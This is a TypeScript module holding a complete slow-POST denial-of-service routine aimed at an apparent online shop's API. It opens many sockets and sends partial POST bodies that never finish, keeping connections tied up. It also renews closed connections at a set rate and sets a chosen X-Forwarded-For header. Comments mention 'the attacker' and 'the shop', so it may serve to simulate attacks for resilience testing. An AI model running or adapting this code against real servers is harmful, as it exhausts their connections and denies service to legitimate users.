import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

interface HalfSent {
  origin: string;
  network: string;
  /** So many are kept open, */
  sockets: number;
  /** and so many of those that were closed are opened again each second. */
  renewedPerSecond: number;
  until: number;
}

/** Calls of each kind, and what takes no body at all. */
const paths = [
  '/api/users/login',
  '/api/orders/add-order-get-checkout',
  '/api/products/get-products',
  '/api/csp-report',
  '/productos',
];

const typeOf = (path: string) => (path === '/api/csp-report' ? 'application/csp-report' : 'application/json');

/** Requests whose bodies never come. Answers how many were begun. */
export async function sendHalves({ origin, network, ...wanted }: HalfSent): Promise<number> {
  const { hostname, port, host } = new URL(origin);
  let open = 0;
  let begun = 0;
  const sockets = new Set<ReturnType<typeof connect>>();

  const begin = () => {
    const path = paths[begun % paths.length] ?? '/';
    const socket = connect({ host: hostname, port: Number(port) });
    open += 1;
    begun += 1;
    sockets.add(socket);
    socket.on('connect', () =>
      socket.write(
        `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${network}\r\nContent-Type: ${typeOf(path)}\r\nContent-Length: 500\r\n\r\n{"email":`,
      ),
    );
    // Whatever is answered: the attacker leaves the line open until the shop closes it.
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      open -= 1;
      sockets.delete(socket);
    });
  };

  while (open < wanted.sockets) begin();
  while (performance.now() < wanted.until) {
    await sleep(1000 / wanted.renewedPerSecond);
    if (open < wanted.sockets) begin();
  }
  for (const socket of sockets) socket.destroy();
  return begun;
}
